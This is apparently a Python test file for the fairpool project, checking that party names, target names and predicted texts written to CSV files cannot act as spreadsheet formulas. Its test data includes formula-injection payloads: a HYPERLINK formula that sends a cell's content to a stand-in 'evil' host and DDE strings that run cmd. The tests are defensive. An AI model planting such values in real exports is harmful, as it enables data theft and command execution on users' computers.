"""Tables that somebody opens in a spreadsheet: no cell of theirs is a formula."""

import csv
import io

from fairpool.consortium.prediction import Predictions, as_csv
from tests.support.hostile import EVERYTHING, edited_reward
from tests.support.projects import fairpool, project, reward_file, round_folder

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A2,"open me")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    '"=1+1"',
    'A;"=1+1"',
    "A; -1",
    "＝1+1",
]
BEGINS_A_FORMULA = tuple("=+-@\t\r\n＝＋－＠")


def cells(text):
    return next(csv.reader(io.StringIO(text)))


def check_that_none_is_a_formula(header):
    for cell in cells(header):
        assert not cell.lstrip(' "').startswith(BEGINS_A_FORMULA), cell
    # A semicolon or a tab separates cells with the settings of many countries.
    for separator in ";\t":
        for cell in next(csv.reader(io.StringIO(header), delimiter=separator)):
            assert not cell.lstrip(' "').startswith(BEGINS_A_FORMULA), cell


def test_a_partys_name_is_no_formula_in_values_csv(tmp_path):
    names = [*FORMULAS, "A;=1+1", 'A";=1+1;"']
    folder = project(tmp_path / "p", sizes=(60,) * len(names))
    text = (folder / "collaboration.toml").read_text()
    for number, name in enumerate(names):
        text = text.replace(f'"Party {number}"', f"'''{name}'''")
    (folder / "collaboration.toml").write_text(text, encoding="utf-8")
    done = fairpool("run", folder, "--quiet")
    assert done.returncode == 0, done.stderr
    values = (round_folder(folder) / "operator" / "values.csv").read_text(encoding="utf-8")
    check_that_none_is_a_formula(values)
    assert [cell.replace("'", "") for cell in cells(values)] == [
        name.replace("'", "") for name in [*names, "value"]
    ]
    assert len(values.splitlines()) == 1 + 2 ** len(names)


def test_the_targets_name_is_no_formula_among_predictions(tmp_path):
    folder = project(tmp_path / "p", sizes=(40, 30))
    assert fairpool("run", folder, "--quiet").returncode == 0
    reward = reward_file(folder, "Party-1")
    for number, name in enumerate([*FORMULAS, "y;=1+1", "\t=1+1", f"y{EVERYTHING}"]):
        encoding = {"target": name}
        hostile = edited_reward(reward, tmp_path / "hostile.safetensors", encoding=encoding)
        out = tmp_path / f"{number}.csv"
        done = fairpool("predict", hostile, "--data", folder / "test.csv", "--out", out)
        if done.returncode == 0:  # an edited file may be refused
            check_that_none_is_a_formula(out.read_text(encoding="utf-8"))
        predictions = Predictions(names=(name, "lower_95"), rows=[[1.5, -2.0]])
        check_that_none_is_a_formula(as_csv(predictions))
        assert cells(as_csv(predictions))[1] == "lower_95"
        assert as_csv(predictions).endswith("\n1.5,-2.0\n")


def test_a_predicted_text_is_no_formula():
    """It is out of a reward file, and that may be anybody's."""
    for text in FORMULAS:
        predictions = Predictions(names=("y", "probability"), rows=[[text, 0.5]])
        _, row = as_csv(predictions).split("\n", 1)
        check_that_none_is_a_formula(row)
    predictions = Predictions(names=("y",), rows=[["a-b"]])
    assert as_csv(predictions) == "y\na-b\n"


def test_plain_names_stay_as_they_are():
    predictions = Predictions(names=("y", "a-b", 'size "l", in cm'), rows=[[1.0, 2.0, 3.0]])
    assert as_csv(predictions) == 'y,a-b,"size ""l"", in cm"\n1.0,2.0,3.0\n'
